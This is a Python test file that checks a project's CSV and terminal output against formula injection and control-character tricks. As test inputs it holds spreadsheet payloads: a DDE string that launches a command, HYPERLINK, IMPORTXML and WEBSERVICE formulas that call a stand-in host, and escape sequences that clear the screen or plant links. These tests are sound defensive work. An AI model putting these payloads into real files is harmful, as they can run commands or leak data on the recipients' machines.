"""Hostile cells: no spreadsheet executes them, no terminal obeys them, and what was written can be read back."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest

from ondermijning.cli.shared.output import print_rows
from ondermijning.report.cells import harmless, json_text, plain, write_csv

SIGNS = "=+-@＝＋－＠"
BLANKS = " \t\r\n\u00a0\u200b\ufeff\u3000"


def written(*cells: Any) -> str:
    """One row as the CSV holds it, without the heading."""
    stream = io.StringIO(newline="")
    write_csv(stream, [f"kolom {at}" for at in range(len(cells))], [cells])
    return stream.getvalue().split("\n", 1)[1]


def parsed(text: str, separator: str = ";") -> list[str]:
    """The cells that a program sees in a text."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def is_executed(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula."""
    return cell.strip(BLANKS).startswith(tuple(SIGNS))


def read_back(cell: str) -> str:
    """What the description of the format tells a reader to do: one apostrophe less before such a sign."""
    return re.sub(rf"""((?:^|[;,|])[\s"]*'*)'([{re.escape(SIGNS)}])""", r"\1\2", cell)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_f1_a_formula_becomes_text(cell: str) -> None:
    (seen,) = parsed(written(cell))
    assert not is_executed(seen)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x/?"&A1,"k")',
        "=cmd|' /C calc'!A0",
        '=IMPORTXML("http://x", "//a")',
        '=WEBSERVICE("http://x")',
        "=DDE(a;b)",
    ],
)
def test_f2_a_formula_that_calls_out_becomes_text_and_keeps_its_words(cell: str) -> None:
    (seen,) = parsed(written(cell))
    assert not is_executed(seen)
    assert read_back(seen) == cell


@pytest.mark.parametrize("blank", BLANKS)
@pytest.mark.parametrize("sign", SIGNS)
def test_f3_a_sign_behind_blanks_or_in_full_width_is_seen(blank: str, sign: str) -> None:
    for cell in (f"{blank}{sign}1+1", f"{blank}{blank}{sign}1"):
        (seen,) = parsed(written(cell))
        assert not is_executed(seen)


@pytest.mark.parametrize("separator", [";", ",", "|"])
@pytest.mark.parametrize("cell", ["x;=1+1", "x,=1+1", "x|=1+1", "x; +1", 'x,"=1+1', 'x;"" -1', "x,'=1"])
def test_f4_a_program_that_splits_on_another_separator_finds_no_formula_either(cell: str, separator: str) -> None:
    assert [seen for seen in parsed(written("a", cell, "b"), separator) if is_executed(seen)] == []


def test_f5_quotes_alone_are_not_what_protects() -> None:
    text = written("=1+1")
    assert text == '"\'=1+1"\n'
    assert parsed(text) == ["'=1+1"]


@pytest.mark.parametrize(
    "cell", ["-5", "+31 43 350 40 40", "@home B.V.", "'=1", "''-5", "a;+b", "d'Artagnan", "'t Hof", "=", ""]
)
def test_f6_an_honest_text_with_such_a_sign_can_be_read_back(cell: str) -> None:
    (seen,) = parsed(written(cell))
    assert read_back(seen) == cell


def test_a_text_without_such_a_sign_stays_what_it_is() -> None:
    for cell in ("Bosuil Tegels (Beek); 12,5 %", "de namen hebben dezelfde woorden", 'a "b" c'):
        assert harmless(cell) is cell


def test_f6_a_number_stays_a_number_also_below_zero() -> None:
    assert written(-5, 250_000, 0.5, "-5") == '-5;250000;0.5;"\'-5"\n'
    assert harmless(-5) == -5


@pytest.mark.parametrize("sign", ["\x00", "\x1b", "\x07", "\x7f", "\x9b"])
def test_f7_a_control_sign_is_written_out_and_the_export_is_not_lost(sign: str) -> None:
    first, second = parsed(written(f"A{sign}B", "daarna"))
    assert (first, second) == (f"A\\x{ord(sign):02x}B", "daarna")


@pytest.mark.parametrize("cell", ["0012345678", "1E3", "3-4", "MAR1", "1.234,56", "000038509504"])
def test_f8_a_text_of_digits_is_quoted_and_keeps_every_sign(cell: str) -> None:
    assert written(cell) == f'"{cell}"\n'
    assert parsed(written(cell)) == [cell]


def test_f8_an_empty_cell_is_empty_and_not_the_word_none() -> None:
    assert parsed(written(None, "")) == ["", ""]


HOSTILE = [
    "A\x1b[2J\x1b]0;pwned\x07B",
    "\x1b]8;;http://x\x07klik\x1b]8;;\x07",
    "goed\rslecht",
    "bel\x07",
    "\x9b31mrood",
    "regel\nerbij",
    "kolom\terbij",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_t1_a_terminal_sees_control_signs_written_out(text: str) -> None:
    shown = plain(text)
    assert shown.isprintable()
    assert "\\x" in shown


@pytest.mark.parametrize("form", ["table", "csv", "json"])
@pytest.mark.parametrize("text", HOSTILE)
def test_t1_no_form_of_output_passes_a_control_sign_on(
    form: str, text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    print_rows(form, ("naam",), [(text,)])
    assert "".join(capsys.readouterr().out.splitlines()).isprintable()


@pytest.mark.parametrize(
    "sign",
    ["\u202e", "\u202a", "\u2066", "\u2069", "\u200d", "\u200b", "\u200e", "\u061c", "\u2028", "\ufeff", "\U000e0041"],
)
def test_t2_a_sign_that_turns_or_hides_text_is_written_out(sign: str) -> None:
    assert plain(f"ab{sign}cd") == f"ab\\x{ord(sign):02x}cd"
    assert sign not in json_text([f"ab{sign}cd"])


def test_t2_a_pile_of_accents_is_cut_short_and_an_honest_accent_stays() -> None:
    storm = "z" + "\u0301" * 50
    assert plain(storm).count("\u0301") == 2
    assert plain("Zoë Čapek, d'Été") == "Zoë Čapek, d'Été"
    assert plain("e\u0302\u0301n") == "e\u0302\u0301n"


def test_t2_a_name_of_ten_thousand_signs_folds_inside_its_table(capsys: pytest.CaptureFixture[str]) -> None:
    print_rows("table", ("naam", "aantal"), [("x" * 10_000, 1)])
    assert max(map(len, capsys.readouterr().out.splitlines())) <= 240


@pytest.mark.parametrize("text", [*HOSTILE, "ab\u202ecd", "\U000e0041", "z" + "\u0301" * 9, "=1+1", 'aan"haling'])
def test_json_that_is_shown_gives_back_the_very_same_text(text: str) -> None:
    assert json.loads(json_text({"naam": [text]})) == {"naam": [text]}
